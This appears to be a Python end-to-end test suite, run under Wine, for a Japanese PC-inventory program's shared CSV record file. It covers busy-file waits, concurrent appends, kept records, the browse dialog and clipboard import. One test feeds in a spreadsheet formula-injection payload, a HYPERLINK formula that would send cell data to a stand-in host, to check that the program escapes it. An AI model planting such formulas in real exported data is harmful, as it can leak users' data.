"""The record file: 記録 with its header and its busy-file waits, many PCs
appending at once, 参照 and 取込.

The expected bytes come from tests/fixtures/record/ (shared with the unit
tests) and, for the line of the PC under test, from what its dialog shows.
"""

import csv
import io
import os
import pwd
import re
import shutil
import subprocess
import time
from pathlib import Path

from wine_session import windows_path
from zeltrand_e2e import CaseFailure, ended_silently_by_wine, expect, expect_equal, wait_until

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "record"
PC_NAME_EDIT = 16
RECORD_PATH_EDIT = 20
BROWSE_BUTTON = 22
RECORD_BUTTON = 24
IMPORT_BUTTON = 25
EXIT_BUTTON = 27
CPU_FIELD = 3
# The save-file dialog's controls.
FOLDER_COMBO = 0x471
FILE_NAME_COMBO = 0x47C
FILE_TYPE_COMBO = 0x470
READ_ONLY_CHECK = 0x410
IDOK = 1
IDCANCEL = 2
WS_VISIBLE = 0x10000000
WAITING = "取得情報記録ﾌｧｲﾙ空き待ち中..."
TITLE = "Zeltrand v0.90 2003.1.17"
KEPT = "\nこの記録は保存しておき、次回の記録時にその時の取得情報記録ﾌｧｲﾙに追加します。"
EMPTY_CLIPBOARD = ("ｸﾘｯﾌﾟﾎﾞｰﾄﾞは空です。\n"
                   "Zeltrand情報をｸﾘｯﾌﾟﾎﾞｰﾄﾞにｺﾋﾟｰしてから実行して下さい。")
PCS_AT_ONCE = 20
# One record is one column per text, every column quoted with its comma.
RECORD_LINE = re.compile(rb'^(?:"[^"\n]*",)+$')


def fixture(name):
    return (FIXTURES / name).read_bytes()


def column(text):
    """One column as the program writes it: control bytes become blanks,
    double quotes are doubled."""
    data = bytes(0x20 if b < 0x20 or b == 0x7F else b for b in text.encode("cp932"))
    return b'"' + data.replace(b'"', b'""') + b'",'


def kept_lines(z, path):
    """The lines the program keeps for the record file `path`, LF included."""
    pending = (Path(z.session.env["WINEPREFIX"]) / "drive_c" / "users" /
               pwd.getpwuid(os.getuid()).pw_name / "AppData/Local/Zeltrand/pending.csv")
    prefix = windows_path(path).encode("cp932") + b"\t"
    lines = pending.read_bytes().splitlines(keepends=True) if pending.exists() else []
    return [line[len(prefix):] for line in lines if line.startswith(prefix)]


def started(z):
    """Starts the program and waits for the first tick's CPU measurement, so
    that the fields no longer change."""
    z.start()
    wait_until(lambda: z.text(CPU_FIELD) != "計測中...", 20, "the CPU field")


def shown_texts(z):
    users = (z.items(14) + [""] * 5)[:5]
    return [z.text(PC_NAME_EDIT)] + [z.text(n) for n in range(14)] + users + z.items(15)


def shown_line(z):
    """The file-form record of what the dialog shows, LF included."""
    return b"".join(column(t) for t in shown_texts(z)) + b"\n"


def default_record_file(z):
    return z.app_dir / "Zeltrand.csv"


def wait_for_lines(path, count, timeout=10):
    return wait_until(lambda: path.exists() and path.read_bytes().count(b"\n") >= count
                      and path.read_bytes(), timeout, "%d lines in %s" % (count, path.name))


def notices(z):
    """Titles of the countdown notices the dialog owns."""
    dialog = int(z.dialog, 16)
    return [w.title for w in z.windows()
            if w.visible and w.cls.lower() == "static" and int(w.owner, 16) == dialog
            and w.title.startswith(WAITING)]


def watch_countdown(z, on_text=None, timeout=15):
    """Follows the notice from its first text until it is gone; returns the
    texts in the order they showed, each with the time it was first seen
    and, last, None with the time it was seen gone."""
    seen = []
    began = time.monotonic()
    while time.monotonic() - began < timeout:
        titles = notices(z)
        now = time.monotonic() - began
        if not titles and seen:
            return seen + [(None, now)]
        for title in titles:
            if not seen or seen[-1][0] != title:
                seen.append((title, now))
                if on_text:
                    on_text(title)
        time.sleep(0.02)
    raise CaseFailure("the notice did not come and go within %d s (saw %r)" % (timeout, seen))


def countdown_of(seen):
    return "".join(title[len(WAITING):] for title, _ in seen[:-1])


def timeline(seen):
    return ", ".join("%s at %.1f s" % (title[len(WAITING):] if title else "gone", t)
                     for title, t in seen)


class Holder:
    """holdfile_win32.exe holding a file like another PC's 記録: from now
    until release(), and `hold_ms` ms more; with how=("--read",), holding it
    as the summary page does."""

    def __init__(self, z, path, hold_ms=0, how=()):
        exe = Path(z.session.zeltrand_exe).parent / "holdfile_win32.exe"
        if not exe.is_file():
            raise CaseFailure("%s is missing: build the mingw preset" % exe)
        self.output = z.folder / "holdfile.out"
        self.go = z.folder / "holdfile.go"
        self.go.unlink(missing_ok=True)
        args = ["wine", str(exe), *how, windows_path(path), str(hold_ms), windows_path(self.go)]
        for attempt in (1, 2):
            with open(self.output, "w") as out:
                self.process = subprocess.Popen(args, env=z.session.env,
                                                stdin=subprocess.DEVNULL, stdout=out,
                                                stderr=subprocess.STDOUT)
            wait_until(lambda: b"held" in self.output.read_bytes() or
                       self.process.poll() is not None, 20, "the helper to hold the file")
            if not ended_silently_by_wine(self.process, self.output):
                break
        expect(self.process.poll() is None,
               "the helper could not hold the file: %r" % self.output.read_bytes())

    def release(self):
        self.go.touch()

    def released(self):
        return b"released" in self.output.read_bytes()

    def stop(self):
        """Lets the file go and waits until the helper has closed it."""
        self.release()
        try:
            self.process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
            raise CaseFailure("the helper did not let the file go") from None


def case_record_on_an_empty_file_writes_the_header_and_the_line(z):
    started(z)
    z.settext(PC_NAME_EDIT, '会計課 "7号機", 2F')
    expected = fixture("header.csv") + shown_line(z)
    z.click(RECORD_BUTTON)
    written = wait_for_lines(default_record_file(z), 2)
    expect_equal(written, expected, "the new record file")
    # A CSV reader takes every column back as the text that went in.
    rows = list(csv.reader(io.StringIO(written.decode("cp932"), newline="")))
    expect_equal(rows[1], shown_texts(z) + [""], "the record as a CSV reader reads it")
    z.no_msgbox(within=0.5)
    z.click(EXIT_BUTTON)
    expect_equal(z.wait_exit(), 0, "exit code")


def case_record_a_second_time_adds_only_a_line(z):
    started(z)
    line = shown_line(z)
    path = default_record_file(z)
    z.click(RECORD_BUTTON)
    wait_for_lines(path, 2)
    z.click(RECORD_BUTTON)
    expect_equal(wait_for_lines(path, 3), fixture("header.csv") + line + line, "the record file")
    z.click(EXIT_BUTTON)
    expect_equal(z.wait_exit(), 0, "exit code")


def case_record_after_a_torn_line_starts_a_line_of_its_own(z):
    # The last writer died in the middle of its line.
    torn = fixture("header.csv") + b'"PC-9","2003.01.20 09:1'
    path = z.place("Zeltrand.csv", torn)
    started(z)
    line = shown_line(z)
    z.click(RECORD_BUTTON)
    expect_equal(wait_for_lines(path, 3), torn + b"\n" + line, "the record file")
    z.click(EXIT_BUTTON)
    expect_equal(z.wait_exit(), 0, "exit code")


def case_record_waits_out_a_file_held_for_three_seconds(z):
    started(z)
    path = default_record_file(z)
    expected = fixture("header.csv") + shown_line(z)
    holder = Holder(z, path, hold_ms=3000)
    try:
        z.click(RECORD_BUTTON)

        def start_the_three_seconds(title):
            if title == WAITING + "5":
                holder.release()

        seen = watch_countdown(z, start_the_three_seconds)
        print("notice after the press: " + timeline(seen))
        expect_equal(countdown_of(seen), "543", "countdown")
        expect(holder.released(), "the line came before the helper let go")
        expect_equal(wait_for_lines(path, 2), expected, "the record file")
    finally:
        holder.stop()
    z.no_msgbox(within=0.5)
    z.click(EXIT_BUTTON)
    expect_equal(z.wait_exit(), 0, "exit code")


def case_record_gives_up_on_a_file_held_for_good_keeps_the_line_and_says_so(z):
    started(z)
    path = default_record_file(z)
    holder = Holder(z, path)
    try:
        z.click(RECORD_BUTTON)
        seen = watch_countdown(z)
        print("notice after the press: " + timeline(seen))
        expect_equal(countdown_of(seen), "54321", "countdown")
        box = z.msgbox(timeout=5)
        expect_equal(box.caption, TITLE, "caption")
        expect_equal(box.text, "取得情報記録ﾌｧｲﾙに記録できませんでした!\nﾌｧｲﾙが他で使用中です。\n"
                     + z.text(RECORD_PATH_EDIT) + KEPT, "message")
        expect_equal(path.read_bytes(), b"", "the record file")
        expect_equal(kept_lines(z, path), [shown_line(z)], "the kept line")
        z.answer("IDOK")
    finally:
        holder.stop()
    expect(z.running(), "the program ended")
    z.click(EXIT_BUTTON)
    expect_equal(z.wait_exit(), 2, "exit code with the record kept")


def case_record_unattended_on_a_file_held_for_good_keeps_it_for_the_next_run(z):
    path = default_record_file(z)
    z.place("Zeltrand.ini", b"[auto]\r\nRec=1\r\nEnd=1\r\n")
    holder = Holder(z, path)
    try:
        began = time.monotonic()
        z.start()
        expect_equal(z.wait_exit(timeout=20), 2, "exit code with the record kept")
        print("gave up and ended %.1f s after the start" % (time.monotonic() - began))
        expect_equal(path.read_bytes(), b"", "the record file")
    finally:
        holder.stop()
    kept = kept_lines(z, path)
    expect(len(kept) == 1 and RECORD_LINE.match(kept[0][:-1]), "kept lines: %r" % kept)
    z.start()
    expect_equal(z.wait_exit(timeout=20), 0, "exit code of the second run")
    lines = path.read_bytes()[len(fixture("header.csv")):].splitlines(keepends=True)
    expect(len(lines) == 2 and lines[0] == kept[0] and RECORD_LINE.match(lines[1][:-1]),
           "not the kept line, then a new one: %r" % lines)
    expect_equal(kept_lines(z, path), [], "lines still kept")


def case_records_kept_for_a_missing_folder_go_to_the_corrected_file(z):
    wrong, right = z.app_dir / "missing" / "Zeltrand.csv", z.app_dir / "inventory.csv"
    for path, code in ((wrong, 2), (right, 0)):  # the administrator corrects RecFile
        z.place("Zeltrand.ini", b"[file]\r\nRecFile=%s\r\n[auto]\r\nRec=1\r\nEnd=1\r\n"
                % windows_path(path).encode("cp932"))
        kept = kept_lines(z, wrong)
        z.start()
        expect_equal(z.wait_exit(timeout=20), code, "exit code for %s" % path.name)
    expect(len(kept) == 1 and RECORD_LINE.match(kept[0][:-1]), "kept lines: %r" % kept)
    lines = right.read_bytes()[len(fixture("header.csv")):].splitlines(keepends=True)
    expect(len(lines) == 2 and lines[0] == kept[0] and RECORD_LINE.match(lines[1][:-1]),
           "not the kept line, then a new one: %r" % lines)
    expect_equal(kept_lines(z, wrong), [], "lines still kept")


def write_pc_folder(folder, exe, shared_file):
    folder.mkdir()
    shutil.copy2(exe, folder / "Zeltrand.exe")
    ini = "[file]\r\nRecFile=%s\r\n\r\n[auto]\r\nRec=1\r\nEnd=1\r\n" % windows_path(shared_file)
    (folder / "Zeltrand.ini").write_bytes(ini.encode("cp932"))


def lowest_countdowns(z, exes, lowest):
    """Notes, per program, the lowest countdown number its notice showed."""
    for window in z.windows():
        if window.visible and window.title.startswith(WAITING):
            exe = window.exe.lower()
            if exe in exes:
                lowest[exe] = min(lowest.get(exe, 6), int(window.title[len(WAITING):]))


def run_pcs(z, shared, all_waiting=None):
    """Starts PCS_AT_ONCE programs that record into `shared` and end, each
    from a folder of its own; waits until all have ended. `all_waiting` is
    called once every program shows its notice. Returns the seconds until
    the last one ended and the lowest countdown of each that waited."""
    folders = [z.folder / ("pc%02d" % n) for n in range(1, PCS_AT_ONCE + 1)]
    for folder in folders:
        write_pc_folder(folder, z.exe, shared)
    exes = {windows_path(f / "Zeltrand.exe").lower() for f in folders}
    processes, lowest, restarted = [], {}, set()

    def launch(folder):
        with open(folder / "zeltrand.out", "w") as out:
            return subprocess.Popen(["wine", "Zeltrand.exe"], cwd=folder, env=z.session.env,
                                    stdin=subprocess.DEVNULL, stdout=out,
                                    stderr=subprocess.STDOUT)

    def start_again_what_wine_ended():
        # The program itself always ends with 0.
        for n, process in enumerate(processes):
            if n not in restarted and ended_silently_by_wine(process,
                                                             folders[n] / "zeltrand.out"):
                print("Wine ended %s with 1 without a word, starting it again" % folders[n].name)
                restarted.add(n)
                processes[n] = launch(folders[n])

    try:
        began = time.monotonic()
        processes = [launch(folder) for folder in folders]
        while True:
            start_again_what_wine_ended()
            if all(p.poll() is not None for p in processes):
                break
            expect(time.monotonic() - began < 120, "not all programs ended within 120 s")
            lowest_countdowns(z, exes, lowest)
            if all_waiting and len(lowest) == PCS_AT_ONCE:
                all_waiting()
                all_waiting = None
        elapsed = time.monotonic() - began
    finally:
        for process in processes:
            if process.poll() is None:
                process.kill()
            process.wait()
    expect_equal([p.returncode for p in processes], [0] * PCS_AT_ONCE, "exit codes")
    # The windows of an ended program may outlive its process for a moment.
    wait_until(lambda: not any(w.exe.lower() in exes for w in z.windows()), 10,
               "the windows of the ended programs to go")
    return elapsed, lowest


def expect_one_header_and_whole_records(shared):
    data = shared.read_bytes()
    header = fixture("header.csv")
    expect(data.startswith(header), "the file does not start with the header")
    expect_equal(data.count(header), 1, "headers")
    lines = data[len(header):].split(b"\n")
    expect_equal(lines.pop(), b"", "the end of the file")
    expect_equal(len(lines), PCS_AT_ONCE, "records")
    widths = set()
    for line in lines:
        expect(RECORD_LINE.match(line), "a broken record: %r" % line[:200])
        widths.add(len(re.findall(rb'"[^"]*",', line)))
    expect_equal(len(widths), 1, "column counts of the records")
    expect(min(widths) >= 20, "records of %r columns" % widths)


def report(what, elapsed, lowest):
    # A notice that got down to n means 7 - n attempts; no notice, one.
    attempts = PCS_AT_ONCE + sum(6 - n for n in lowest.values())
    print("%s: %d programs, %d attempts (%d waited), the last ended %.1f s after the start"
          % (what, PCS_AT_ONCE, attempts, len(lowest), elapsed))


def case_record_from_many_pcs_at_once_into_one_new_file(z):
    shared = z.folder / "share" / "Zeltrand.csv"
    shared.parent.mkdir()
    elapsed, lowest = run_pcs(z, shared)
    expect_one_header_and_whole_records(shared)
    report("started together", elapsed, lowest)


def case_record_from_many_pcs_that_all_wait_for_one_new_file(z):
    # Another PC holds the new, still empty file until every program waits
    # for it: then all of them retry in the same few seconds.
    shared = z.folder / "share" / "Zeltrand.csv"
    shared.parent.mkdir()
    holder = Holder(z, shared)
    try:
        elapsed, lowest = run_pcs(z, shared, all_waiting=holder.release)
    finally:
        holder.stop()
    expect_equal(len(lowest), PCS_AT_ONCE, "programs that waited")
    expect_one_header_and_whole_records(shared)
    report("all waiting", elapsed, lowest)


def save_dialog(z):
    """The save-file dialog 参照 opens, owned by the main dialog: its handle
    and its controls by id."""
    box = z.msgbox(timeout=10)
    expect_equal(box.caption, "Zeltrand管理ファイル", "save dialog title")
    return box.hwnd, {c.id: c for c in z.controls(box.hwnd)}


def close_save_dialog(z, hwnd, button):
    z.driver.run("click", hwnd, button)
    z.driver.run("wait-gone", hwnd)


def case_browse_puts_the_chosen_file_into_the_path_edit(z):
    started(z)
    # The dialog starts from the default file, not from what the edit shows.
    z.settext(RECORD_PATH_EDIT, "Z:\\typed.csv")
    z.click(BROWSE_BUTTON)
    hwnd, controls = save_dialog(z)
    expect_equal(controls[FOLDER_COMBO].text, z.app_dir.name, "folder shown first")
    expect_equal(controls[FILE_NAME_COMBO].text, "Zeltrand.csv", "file name shown first")
    expect_equal(controls[FILE_TYPE_COMBO].text, "Zeltrand管理ﾌｧｲﾙ(*.csv)", "file type")
    expect(not controls[READ_ONLY_CHECK].style & WS_VISIBLE, "the read-only box shows")
    close_save_dialog(z, hwnd, IDCANCEL)
    expect_equal(z.text(RECORD_PATH_EDIT), "Z:\\typed.csv", "the path after cancelling")

    chosen = z.folder / "棚卸.csv"
    z.click(BROWSE_BUTTON)
    hwnd, controls = save_dialog(z)
    expect_equal(controls[FILE_NAME_COMBO].text, "Zeltrand.csv", "file name after cancelling")
    z.driver.run("settext", hwnd, FILE_NAME_COMBO, windows_path(chosen))
    close_save_dialog(z, hwnd, IDOK)
    expect_equal(z.text(RECORD_PATH_EDIT), windows_path(chosen), "the chosen path")
    expect(not chosen.exists(), "choosing the file created it")

    z.click(BROWSE_BUTTON)
    hwnd, controls = save_dialog(z)
    expect_equal(controls[FILE_NAME_COMBO].text, chosen.name, "file name after a choice")
    close_save_dialog(z, hwnd, IDCANCEL)
    z.click(EXIT_BUTTON)
    expect_equal(z.wait_exit(), 0, "exit code")


def mailed_text():
    """The worked example as a mail reader shows it: greeting, the record
    broken over CR LF lines with a tab, a signature."""
    mail = fixture("worked_example_mail.txt").replace(b"\n", b"\r\n\t")
    return ("お疲れ様です。\r\n".encode("cp932") + b"Zeltrand v0.90 2[" + mail
            + b"]\r\n-- \r\n")


def case_import_writes_the_mailed_record_and_empties_the_clipboard(z):
    started(z)
    path = default_record_file(z)
    z.clip_set(mailed_text())
    z.click(IMPORT_BUTTON)
    expected = fixture("header.csv") + fixture("worked_example_imported.csv")
    expect_equal(wait_for_lines(path, 2), expected, "the record file")
    code, data = z.driver.run("clip-get", check=False)
    expect(code != 0 or data == b"", "the clipboard still holds %r" % data[:80])

    z.click(IMPORT_BUTTON)
    box = z.msgbox()
    expect_equal((box.caption, box.text), (TITLE, EMPTY_CLIPBOARD), "second import")
    z.answer("IDOK")
    expect_equal(path.read_bytes(), expected, "the record file after the second import")
    z.click(EXIT_BUTTON)
    expect_equal(z.wait_exit(), 0, "exit code")


def case_record_and_import_guard_names_a_spreadsheet_would_take_for_formulas(z):
    started(z)
    path = default_record_file(z)
    z.settext(PC_NAME_EDIT, '=HYPERLINK("http://x/?"&A1)')
    line = shown_line(z).replace(b'"=HYP', b'"\'=HYP', 1)
    z.click(RECORD_BUTTON)
    wait_for_lines(path, 2)
    name = '"会計課7号機"'.encode("cp932")
    z.clip_set(b"Zeltrand v0.90 2[" + fixture("worked_example_mail.txt").replace(name, b'"@SUM(1)"')
               + b"]")
    z.click(IMPORT_BUTTON)
    imported = fixture("worked_example_imported.csv").replace(name, b'"\'@SUM(1)"')
    expect_equal(wait_for_lines(path, 3), fixture("header.csv") + line + imported, "the record file")
    z.click(EXIT_BUTTON)
    expect_equal(z.wait_exit(), 0, "exit code")


def case_import_into_a_busy_file_says_so_and_keeps_the_clipboard(z):
    started(z)
    path = default_record_file(z)
    holder = Holder(z, path)
    try:
        z.clip_set(mailed_text())
        z.click(IMPORT_BUTTON)
        box = z.msgbox()
        expect_equal(box.text, "取得情報記録ﾌｧｲﾙに取り込めませんでした!\nﾌｧｲﾙが他で使用中です。\n"
                     + z.text(RECORD_PATH_EDIT) + "\nｸﾘｯﾌﾟﾎﾞｰﾄﾞの内容はそのままです。", "message")
        z.answer("IDOK")
        expect_equal(z.clip_get(), mailed_text(), "the clipboard")
        expect_equal(path.read_bytes(), b"", "the record file")
    finally:
        holder.stop()
    z.click(IMPORT_BUTTON)
    expected = fixture("header.csv") + fixture("worked_example_imported.csv")
    expect_equal(wait_for_lines(path, 2), expected, "the record file once it is free")
    z.click(EXIT_BUTTON)
    expect_equal(z.wait_exit(), 0, "exit code")
